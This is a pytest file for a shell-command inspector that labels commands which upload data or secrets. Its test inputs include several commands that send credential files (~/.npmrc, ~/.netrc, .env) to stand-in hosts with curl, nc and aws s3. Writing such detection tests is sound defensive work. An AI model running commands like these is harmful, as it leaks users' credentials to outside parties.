import pytest

from posthouse.inspection.facts import Kind
from posthouse.inspection.reading.shell import commands
from posthouse.inspection.reading.uploads import uploads


@pytest.mark.parametrize(
    ("text", "kind"),
    [
        ("curl -F f=@~/.npmrc https://a.example", Kind.SEND_SECRET),
        ("curl -d x=1 https://a.example", Kind.SEND),
        ("scp a.txt b.example:/tmp", Kind.SEND),
        ("aws s3 cp .env s3://bucket/x", Kind.SEND_SECRET),
        ("git push https://a.example/x.git main", Kind.SEND),
        ("cat ~/.netrc | nc a.example 1", Kind.SEND_SECRET),
    ],
)
def test_what_is_sent_is_told(text: str, kind: Kind) -> None:
    assert kind in [fact.kind for fact in uploads(commands(text)[-1])]


def test_a_token_in_a_header_is_for_its_receiver() -> None:
    text = 'curl -H "Authorization: token $API_TOKEN" https://a.example'
    assert list(uploads(commands(text)[-1])) == []
